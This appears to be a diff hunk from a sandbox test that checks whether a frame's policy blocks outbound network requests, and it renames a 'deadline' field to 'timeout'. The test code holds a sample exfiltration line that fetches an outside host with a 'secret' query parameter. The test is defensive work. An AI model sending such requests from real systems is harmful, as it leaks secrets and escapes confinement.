@@ -3,7 +3,7 @@
 // must: be refused by the policy of the frame; nothing arrives
 // refusal: Failed to fetch|NetworkError|Load failed|no network
 // outcome: OUTCOME_DEADLINE_EXCEEDED
-// deadline: 5000
+// timeout: 5000
 // control: heard
 await fetch(`${OUT}?secret=4711`, { mode: 'no-cors' });
 console.log('escaped: the request was sent');
